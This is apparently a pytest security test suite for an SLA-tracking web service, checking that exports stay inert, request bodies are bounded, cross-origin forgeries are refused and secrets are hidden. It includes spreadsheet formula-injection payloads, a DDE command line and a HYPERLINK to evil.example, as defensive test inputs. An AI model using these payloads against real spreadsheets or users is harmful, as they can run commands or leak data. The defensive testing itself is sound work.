"""The live service against a hostile network: one test per row of issue 19's table.

Each test runs the real ``slaengine serve`` as a subprocess (SQLite file, and PostgreSQL where
the row says so) and attacks it as a stranger on the same network would: raw sockets for bodies
that lie or stall, forged origins, guessed tokens, odd bytes. Downloads are read back with
openpyxl and as the raw XML of the workbook. The forged forms of a page on another port, in a
real browser, are in test_security_browser.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import subprocess
import threading
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest

from tests.live_support import event, fast_contract
from tests.receivers import free_port, http_receiver
from tests.test_service_e2e import SLAENGINE, Server, stop, wait_ready

pytestmark = pytest.mark.slow

OPERATOR = "operator-" + "k" * 40
VIEWER = "viewer-" + "v" * 40
AS_OPERATOR = {"Authorization": f"Bearer {OPERATOR}"}
AS_VIEWER = {"Authorization": f"Bearer {VIEWER}"}
ZONE = ZoneInfo("Asia/Shanghai")

HYPERLINK = '=HYPERLINK("http://evil.example/?x=","click")'
DDE = "=cmd|' /C calc'!A0"
#: What makes a spreadsheet read a cell as a formula (OWASP).
RISKY_FIRST = "=+-@\t\r"
#: Tickets a help desk could send that a spreadsheet would run.
FORMULA_TICKETS = [HYPERLINK, DDE, "@SUM(1+1)", "+1+cmd", "-2+cmd", "\t=1+1"]


def contract_text(contract_id: str = "FAST-1", hook: str | None = None) -> str:
    """The fast contract with a clause name that is a formula, under ``contract_id``."""
    text = fast_contract(hook)
    clause = '{id: P-ack, kind: fixed, amount: "500.00"}'
    named = (
        "{id: P-ack, kind: fixed, amount: \"500.00\", name: {zh: '=cmd|'' /C calc''!A0', "
        'en: \'=HYPERLINK("http://evil.example/?x=","click")\'}}'
    )
    assert clause in text
    text = text.replace(clause, named)
    return text.replace("id: FAST-1\n", f"id: {json.dumps(contract_id)}\n", 1)


@contextmanager
def serving(
    tmp: Path,
    db: str | None = None,
    *,
    env: dict[str, str] | None = None,
    contract: str | None = None,
    extra: tuple[str, ...] = (),
) -> Iterator[Server]:
    """``slaengine serve`` with an operator and a viewer token, bodies that stall dropped
    after one second."""
    path = tmp / "contract.yaml"
    path.write_text(contract or contract_text(), encoding="utf-8")
    port = free_port()
    log = tmp / f"serve-{port}.log"
    command = [
        SLAENGINE, "serve", "--db", db or f"sqlite:///{tmp / 'security.db'}",
        "--contract", str(path), "--port", str(port), "--token", OPERATOR,
        "--viewer-token", VIEWER, "--sweep", "1", "--body-timeout", "1", *extra,
    ]  # fmt: skip
    with log.open("wb") as output:
        process = subprocess.Popen(
            command,
            stdout=output,
            stderr=subprocess.STDOUT,
            env={**os.environ, "SLAENGINE_ALERT_WEBHOOK": "", **(env or {})},
        )
    server = Server(process, f"http://127.0.0.1:{port}", log)
    try:
        wait_ready(server)
        yield server
    finally:
        stop(server)


def port_of(server: Server) -> int:
    return int(server.url.rsplit(":", 1)[1])


def raw(server: Server, head: str, body: bytes = b"", timeout: float = 5) -> socket.socket:
    """A connection that sent ``head`` (request line and headers) and ``body``."""
    sock = socket.create_connection(("127.0.0.1", port_of(server)), timeout=timeout)
    sock.sendall(head.replace("\n", "\r\n").encode() + b"\r\n" + body)
    return sock


def answer_of(sock: socket.socket) -> tuple[int, bytes]:
    """The status and everything read until the server closed the connection."""
    data = b""
    with suppress(ConnectionResetError):
        while chunk := sock.recv(65536):
            data += chunk
    status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
    return status, data


def sign_in(server: Server, token: str) -> str:
    answer = httpx.post(
        f"{server.url}/login", data={"token": token, "next": "/"}, follow_redirects=False
    )
    assert answer.status_code == 303, answer.text
    return str(answer.cookies["slaengine_session"])


def post_breached(server: Server, tickets: list[str], contract: str = "FAST-1") -> None:
    """``reported`` an hour ago for each ticket: the 3-second answer is long breached."""
    at = datetime.now(UTC) - timedelta(hours=1)
    for number, ticket in enumerate(tickets):
        data = event("reported", ticket, at, event_id=f"R{number}-{time.monotonic_ns()}")
        data["contract"] = contract
        answer = httpx.post(f"{server.url}/events", json=data, headers=AS_OPERATOR, timeout=10)
        assert answer.status_code == 201, answer.text


def wait_lines(server: Server, count: int, timeout: float = 20) -> list[dict[str, Any]]:
    end = time.monotonic() + timeout
    while True:
        lines = httpx.get(f"{server.url}/penalties", headers=AS_OPERATOR).json()
        if len(lines) >= count:
            return list(lines)
        assert time.monotonic() < end, f"only {len(lines)} penalty lines after {timeout} s"
        time.sleep(0.2)


def this_month() -> str:
    local = (datetime.now(UTC) - timedelta(hours=1)).astimezone(ZONE)
    return f"{local.year:04d}-{local.month:02d}"


# -- row 1: documents that cannot run code -------------------------------------------------


def assert_inert_workbook(data: bytes, must_hold: list[str]) -> None:
    """No cell of any sheet is a formula, read by openpyxl and in the raw XML; the attacker's
    texts are there as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for text in must_hold:
        assert any(text in value for value in texts), f"{text!r} is missing from the workbook"


def assert_inert_csv(data: bytes, must_hold: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell and cell[0] in RISKY_FIRST:
            assert re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), f"CSV cell {cell!r} would run"
    for text in must_hold:
        assert "'" + text in cells or any("'" + text in cell for cell in cells), text


def test_statement_downloads_hold_no_formula(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        post_breached(server, FORMULA_TICKETS)
        wait_lines(server, len(FORMULA_TICKETS))
        base = f"{server.url}/console/money/statement?contract=FAST-1&period={this_month()}"
        xlsx = httpx.get(base + "&format=xlsx", headers=AS_VIEWER)
        assert xlsx.status_code == 200, xlsx.text
        assert_inert_workbook(xlsx.content, [HYPERLINK, DDE])
        lines = httpx.get(base + "&format=csv", headers=AS_VIEWER)
        assert lines.status_code == 200
        assert_inert_csv(lines.content, [HYPERLINK, DDE, "@SUM(1+1)", "+1+cmd", "-2+cmd"])


def test_the_cli_statement_holds_no_formula(tmp_path: Path) -> None:
    contract = tmp_path / "contract.yaml"
    contract.write_text(contract_text(), encoding="utf-8")
    at = datetime(2026, 3, 2, 9, 0, tzinfo=ZONE)
    events = tmp_path / "events.jsonl"
    events.write_text(
        "".join(
            json.dumps(event("reported", t, at, event_id=f"E{n}")) + "\n"
            for n, t in enumerate(FORMULA_TICKETS)
        ),
        encoding="utf-8",
    )
    common = [SLAENGINE, "statement", str(contract), str(events), "--period", "2026-03"]
    common += ["--as-of", "2026-04-01T00:00:00+08:00"]
    book = tmp_path / "statement.xlsx"
    subprocess.run([*common, "-f", "xlsx", "-o", str(book)], check=True, capture_output=True)
    assert_inert_workbook(book.read_bytes(), [HYPERLINK, DDE])
    for lang in ("en", "zh"):
        written = subprocess.run(
            [*common, "-f", "csv", "--lang", lang], check=True, capture_output=True
        )
        assert_inert_csv(written.stdout, [HYPERLINK, DDE, "@SUM(1+1)"])


# -- rows 2 and 3: every body bounded, every read timed -------------------------------------


def test_a_huge_declared_body_is_refused_before_it_is_read(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        head = (
            "POST /login HTTP/1.1\nHost: 127.0.0.1\n"
            "Content-Type: application/x-www-form-urlencoded\nContent-Length: 500000000\n"
        )
        sock = raw(server, head, b"token=abc")
        status, data = answer_of(sock)
        assert status == 413, data[:300]
        assert b"connection: close" in data.lower()
        # The server closed the connection: the rest of the body cannot be pushed in.
        sock = raw(server, head, b"token=abc")
        with pytest.raises(OSError):
            for _ in range(2000):  # up to 128 MB
                sock.sendall(b"x" * 65536)
        sock.close()
        # A console form is a few KB at most, whatever it declares or streams.
        big = httpx.post(f"{server.url}/login", data={"token": "x" * 20_000})
        assert big.status_code == 413


def test_a_stalled_body_is_dropped_and_an_abort_logs_one_short_line(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        head = (
            "POST /login HTTP/1.1\nHost: 127.0.0.1\n"
            "Content-Type: application/x-www-form-urlencoded\nContent-Length: 1000\n"
        )
        stalled = [raw(server, head, b"token=") for _ in range(100)]
        started = time.monotonic()
        health = httpx.get(f"{server.url}/health", timeout=5)  # answers meanwhile
        assert health.status_code == 200
        for sock in stalled:
            status, data = answer_of(sock)
            assert status == 408, data[:300]
            sock.close()
        assert time.monotonic() - started < 10
        before = server.log.stat().st_size
        for _ in range(300):  # send part of the body, then go away
            sock = raw(server, head, b"token=abc")
            sock.setsockopt(
                socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00"
            )
            sock.close()
        time.sleep(1.5)
        assert httpx.get(f"{server.url}/health").status_code == 200
        grown = server.log.read_text(errors="replace")[before:]
        assert "Traceback" not in grown
        assert len(grown) < 300 * 300, f"{len(grown)} bytes logged for 300 aborts"


def test_request_heads_are_bounded_in_size_and_time(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        huge = raw(server, "GET /health HTTP/1.1\nHost: x\nX-Big: " + "a" * 70_000 + "\n")
        status, data = answer_of(huge)
        assert status == 431, data[:300]
        started = time.monotonic()
        silent = socket.create_connection(("127.0.0.1", port_of(server)), timeout=5)
        half = socket.create_connection(("127.0.0.1", port_of(server)), timeout=5)
        half.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: a")  # and nothing more
        assert answer_of(half)[0] == 408
        assert answer_of(silent)[0] == 408  # a connection that says nothing is dropped too
        assert time.monotonic() - started < 4  # --body-timeout 1
        headers = {"X-Fine": "b" * 20_000}  # a large head within the limit is served
        assert httpx.get(f"{server.url}/health", headers=headers).status_code == 200


# -- row 4: cookies are not a way in for other pages -----------------------------------------


def test_requests_from_another_origin_are_refused(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        post_breached(server, ["T-ACK"])
        wait_lines(server, 1)
        cookie = {"slaengine_session": sign_in(server, OPERATOR)}
        same_site = f"http://127.0.0.1:{free_port()}"  # another port of the same host
        for origin in (same_site, "http://localhost:1", "null", "http://evil.example"):
            forged = httpx.post(
                f"{server.url}/console/alerts/1/ack",
                data={"by": "forged"},
                cookies=cookie,
                headers={"Origin": origin},
            )
            assert forged.status_code == 403, (origin, forged.text)
            login = httpx.post(
                f"{server.url}/login", data={"token": OPERATOR}, headers={"Origin": origin}
            )
            assert login.status_code == 403
            logout = httpx.post(f"{server.url}/logout", cookies=cookie, headers={"Origin": origin})
            assert logout.status_code == 403
        # A proxy's Basic credentials, which a browser re-sends by itself, prove nothing.
        basic = httpx.post(
            f"{server.url}/console/alerts/1/ack",
            data={"by": "forged"},
            cookies=cookie,
            headers={"Origin": same_site, "Authorization": "Basic dXNlcjpwYXNz"},
        )
        assert basic.status_code == 403
        fetch_site = httpx.post(
            f"{server.url}/console/alerts/1/ack",
            cookies=cookie,
            headers={"Sec-Fetch-Site": "same-site"},
        )
        assert fetch_site.status_code == 403
        # A text/plain "form" carrying a JSON event, with the cookie: refused, nothing stored.
        forged_event = httpx.post(
            f"{server.url}/events",
            content=json.dumps(event("reported", "FORGED", datetime.now(UTC))),
            headers={"Content-Type": "text/plain"},
            cookies=cookie,
        )
        assert forged_event.status_code == 415, forged_event.text
        assert (
            httpx.get(f"{server.url}/alerts", headers=AS_OPERATOR).json()[0]["acknowledged_at"]
            is None
        )
        tickets = {
            line["ticket"]
            for line in httpx.get(f"{server.url}/penalties", headers=AS_OPERATOR).json()
        }
        assert "FORGED" not in tickets
        # The server's own origin passes, as does a script with its bearer token.
        own = httpx.post(
            f"{server.url}/console/alerts/1/ack",
            data={"by": "me"},
            cookies=cookie,
            headers={"Origin": server.url},
            follow_redirects=False,
        )
        assert own.status_code == 303
        # Console pages cannot be framed and are not cached.
        page = httpx.get(f"{server.url}/", cookies=cookie)
        assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
        assert page.headers["x-frame-options"] == "DENY"
        assert page.headers["x-content-type-options"] == "nosniff"
        assert page.headers["referrer-policy"] == "same-origin"
        assert page.headers["cache-control"] == "no-store"


# -- row 5: nothing secret to strangers ------------------------------------------------------


def test_health_tells_strangers_only_up_and_ready(tmp_path: Path) -> None:
    with http_receiver() as hook:
        hook.fail_next(100, 500, "boom")  # the endpoint's last_error then quotes its URL
        secret_url = f"{hook.url}/SECRETPATH?access_token=SECRET123"
        env = {"SLAENGINE_ALERT_WEBHOOK": secret_url}
        with serving(tmp_path, env=env) as server:
            post_breached(server, ["T-SECRET"])
            end = time.monotonic() + 20
            while not hook.requests and time.monotonic() < end:
                time.sleep(0.1)
            time.sleep(0.5)
            stranger = httpx.get(f"{server.url}/health")
            assert stranger.status_code == 200
            assert set(stranger.json()) == {"status", "ready"}
            inside = httpx.get(f"{server.url}/health", headers=AS_VIEWER)
            text = inside.text
            assert "alert_endpoints" in inside.json()
            assert "SECRET" not in text and "access_token" not in text, text
            assert f"127.0.0.1:{hook.url.rsplit(':', 1)[1]}" in text  # where, without secrets


class Forwarder:
    """A TCP relay to PostgreSQL that the test can cut: the database 'goes down'."""

    def __init__(self, host: str, port: int) -> None:
        self.target = (host, port)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.open: list[socket.socket] = []
        self.running = True
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while self.running:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            if not self.running:
                client.close()
                return
            upstream = socket.create_connection(self.target)
            self.open += [client, upstream]
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()

    @staticmethod
    def _pipe(source: socket.socket, sink: socket.socket) -> None:
        with suppress(OSError):
            while data := source.recv(65536):
                sink.sendall(data)
        with suppress(OSError):
            sink.shutdown(socket.SHUT_WR)

    def cut(self) -> None:
        self.running = False
        self.listener.close()
        for sock in self.open:
            with suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()


@pytest.mark.postgres
def test_a_database_error_names_no_host_port_or_database(tmp_path: Path, pg_url: str) -> None:
    from sqlalchemy.engine import make_url

    url = make_url(pg_url)
    relay = Forwarder(url.host or "127.0.0.1", url.port or 5432)
    through = url.set(host="127.0.0.1", port=relay.port).render_as_string(hide_password=False)
    with serving(tmp_path, through) as server:
        relay.cut()
        time.sleep(0.5)
        for headers in ({}, AS_VIEWER):
            answer = httpx.get(f"{server.url}/health", headers=headers, timeout=20)
            assert answer.status_code == 503
            for secret in (str(relay.port), str(url.database), "127.0.0.1"):
                assert secret not in answer.text, (secret, answer.text)
        read = httpx.get(f"{server.url}/breaches", headers=AS_VIEWER, timeout=20)
        assert read.status_code == 503
        assert str(relay.port) not in read.text
    assert str(relay.port) in server.log.read_text()  # the log keeps what the database said


# -- row 6: guessing is slow -----------------------------------------------------------------


def test_guessing_tokens_is_throttled_per_client(tmp_path: Path) -> None:
    with serving(tmp_path, extra=("--auth-failures", "5")) as server:
        cookie = {"slaengine_session": sign_in(server, VIEWER)}
        statuses = []
        for n in range(12):
            guess = httpx.get(f"{server.url}/alerts", headers={"Authorization": f"Bearer g{n}"})
            statuses.append(guess.status_code)
        assert statuses[:5] == [401] * 5
        assert statuses[-1] == 429
        throttled = httpx.get(f"{server.url}/alerts", headers=AS_OPERATOR)
        assert throttled.status_code == 429
        assert int(throttled.headers["Retry-After"]) >= 1
        login = httpx.post(f"{server.url}/login", data={"token": "guess"})
        assert login.status_code == 429
        # A signed-in browser of the same address keeps working; another address is not slowed.
        assert httpx.get(f"{server.url}/alerts", cookies=cookie).status_code == 200
        other = httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.2"))
        assert other.get(f"{server.url}/alerts", headers=AS_OPERATOR).status_code == 200
        other.close()


def test_serve_refuses_a_short_token_beyond_loopback(tmp_path: Path) -> None:
    refused = subprocess.run(
        [SLAENGINE, "serve", "--db", str(tmp_path / "x.db"), "--host", "0.0.0.0", "--token", "a"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert refused.returncode != 0
    assert "at least 32" in refused.stderr and "secrets.token_urlsafe(32)" in refused.stderr


# -- row 7: an oversized cookie --------------------------------------------------------------


def test_an_oversized_numeric_cookie_is_no_session_and_no_log(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        forged = {"slaengine_session": "viewer." + "9" * 309 + ".x"}
        before = server.log.stat().st_size
        with httpx.Client(cookies=forged, follow_redirects=False) as client:
            for _ in range(300):
                assert client.get(f"{server.url}/").status_code == 303
                assert client.get(f"{server.url}/alerts").status_code == 401
        grown = server.log.read_text(errors="replace")[before:]
        assert "Traceback" not in grown and "OverflowError" not in grown
        assert len(grown) < 600 * 300


# -- rows 8 and 9: odd input is a 4xx, on SQLite and PostgreSQL alike -----------------------


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def any_store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Server]:
    db = None if request.param == "sqlite" else request.getfixturevalue("pg_url")
    with serving(tmp_path, db) as server:
        yield server


def test_odd_input_is_a_4xx(any_store: Server) -> None:
    server = any_store
    get = {
        "/console/money?period=9999-12": 422,
        "/console/money?period=0000-01": 422,
        "/console/money/statement?period=0000-01": 422,
        "/console/money/statement?period=9999-12": 422,
    }
    for path, status in get.items():
        answer = httpx.get(server.url + path, headers=AS_OPERATOR)
        assert answer.status_code == status, (path, answer.text)
    ack = httpx.post(
        f"{server.url}/console/alerts/99999999999999999999999/ack", headers=AS_OPERATOR
    )
    assert ack.status_code == 422, ack.text
    surrogate = '{"id": "s\\ud800", "contract": "FAST-1", "ticket": "T", "type": "reported", '
    surrogate += '"at": "2026-03-02T09:00:00+08:00", "severity": "general"}'
    bad = httpx.post(f"{server.url}/events", content=surrogate, headers=AS_OPERATOR)
    assert bad.status_code == 422, bad.text
    assert "surrogate" in bad.json()["error"]
    for path in ("/breaches?contract=%00", "/?asset=%00", "/contracts/%00", "/alerts?kind=a%00b",
                 "/contracts/FAST-1/tickets/%00", "/console/tickets/FAST-1/%00"):  # fmt: skip
        answer = httpx.get(server.url + path, headers=AS_OPERATOR)
        assert answer.status_code == 400, (path, answer.text)
        assert "NUL" in answer.json()["error"]
    assert "Traceback" not in server.log.read_text(errors="replace")


# -- row 10: ids with / ? # and " -------------------------------------------------------------


def test_ids_with_slashes_queries_and_quotes_work_everywhere(tmp_path: Path) -> None:
    contract_id = 'FAST"1 <b>'
    ticket = "HD/Case 1?x=1#top"
    with serving(tmp_path, contract=contract_text(contract_id)) as server:
        post_breached(server, [ticket], contract=contract_id)
        wait_lines(server, 1)
        c, t = quote(contract_id, safe=""), quote(ticket, safe="")
        api = httpx.get(f"{server.url}/contracts/{c}/tickets/{t}", headers=AS_VIEWER)
        assert api.status_code == 200, api.text
        assert api.json()["ticket"] == ticket
        board = httpx.get(f"{server.url}/", headers=AS_VIEWER).text
        links = set(re.findall(r'href="(/console/tickets/[^"]+)"', board))
        assert f"/console/tickets/{c}/{t}" in links, links
        for link in links:
            page = httpx.get(server.url + link, headers=AS_VIEWER)
            assert page.status_code == 200, link
        alerts = httpx.get(f"{server.url}/console/alerts", headers=AS_VIEWER).text
        assert f'href="/console/tickets/{c}/{t}"' in alerts
        download = httpx.get(
            f"{server.url}/console/money/statement",
            params={"contract": contract_id, "period": this_month(), "format": "csv"},
            headers=AS_VIEWER,
        )
        assert download.status_code == 200
        disposition = download.headers["content-disposition"]
        plain = re.search(r'filename="([^"]*)"', disposition)
        assert plain is not None and re.fullmatch(r"[A-Za-z0-9._-]+", plain.group(1))
        star = re.search(r"filename\*=UTF-8''(\S+)", disposition)
        assert star is not None
        assert unquote(star.group(1)) == f"statement-{contract_id}-{this_month()}.csv"


def test_a_contract_id_with_a_slash_is_refused_at_load(tmp_path: Path) -> None:
    path = tmp_path / "slash.yaml"
    path.write_text(contract_text("FAST/1"), encoding="utf-8")
    refused = subprocess.run(
        [SLAENGINE, "contract", "load", str(path), "--db", str(tmp_path / "s.db")],
        capture_output=True,
        text=True,
    )
    assert refused.returncode != 0
    assert "cannot hold '/'" in refused.stdout + refused.stderr


# -- row 11: sessions you can end -------------------------------------------------------------


def test_a_copied_cookie_is_dead_after_sign_out(tmp_path: Path) -> None:
    with serving(tmp_path) as server:
        cookie = sign_in(server, OPERATOR)
        copied = {"slaengine_session": cookie}
        assert httpx.get(f"{server.url}/alerts", cookies=copied).status_code == 200
        out = httpx.post(f"{server.url}/logout", cookies=copied, headers={"Origin": server.url})
        assert out.status_code == 303
        assert httpx.get(f"{server.url}/alerts", cookies=copied).status_code == 401
        page = httpx.get(f"{server.url}/", cookies=copied, follow_redirects=False)
        assert page.status_code == 303 and "/login" in page.headers["location"]


def test_a_session_expires_after_session_hours(tmp_path: Path) -> None:
    with serving(tmp_path, extra=("--session-hours", "0.0005")) as server:  # 1.8 s
        cookie = {"slaengine_session": sign_in(server, VIEWER)}
        assert httpx.get(f"{server.url}/alerts", cookies=cookie).status_code == 200
        time.sleep(2.0)  # a subprocess: its clock cannot be travelled
        assert httpx.get(f"{server.url}/alerts", cookies=cookie).status_code == 401


# -- deployment behind a proxy, and the throttle's refill --------------------------------------


def test_forwarded_headers_count_only_from_the_trusted_proxy(tmp_path: Path) -> None:
    behind_proxy = {
        "Origin": "https://sla.example.com",
        "X-Forwarded-Proto": "https",
        "X-Forwarded-Host": "sla.example.com",
        "X-Forwarded-For": "203.0.113.9",
    }
    with serving(tmp_path) as server:  # no --trust-proxy: the headers are anyone's words
        claimed = httpx.post(f"{server.url}/login", data={"token": VIEWER}, headers=behind_proxy)
        assert claimed.status_code == 403
    with serving(tmp_path, extra=("--trust-proxy", "127.0.0.1")) as server:
        signed = httpx.post(
            f"{server.url}/login",
            data={"token": VIEWER},
            headers=behind_proxy,
            follow_redirects=False,
        )
        assert signed.status_code == 303, signed.text
        assert "Secure" in signed.headers["set-cookie"]
        end = time.monotonic() + 5  # the access line is written once the answer is out
        while "203.0.113.9" not in server.log.read_text() and time.monotonic() < end:
            time.sleep(0.05)
        assert "203.0.113.9" in server.log.read_text()  # the client's address, not the proxy's


def test_the_throttle_refills_and_forgets_the_oldest_clients() -> None:
    from slaengine.api.security import Throttle

    now = [0.0]
    throttle = Throttle(6, clients=3, monotonic=lambda: now[0])  # 6 at once, 6 a minute
    for _ in range(6):
        assert throttle.wait("a") == 0
        throttle.failed("a")
    assert throttle.wait("a") == 10  # one try back every 10 s
    assert throttle.wait("b") == 0  # another client is not slowed
    now[0] += 10
    assert throttle.wait("a") == 0
    for client in ("b", "c", "d"):
        throttle.failed(client)
    assert throttle.wait("a") == 0  # forgotten: at most 3 clients are remembered
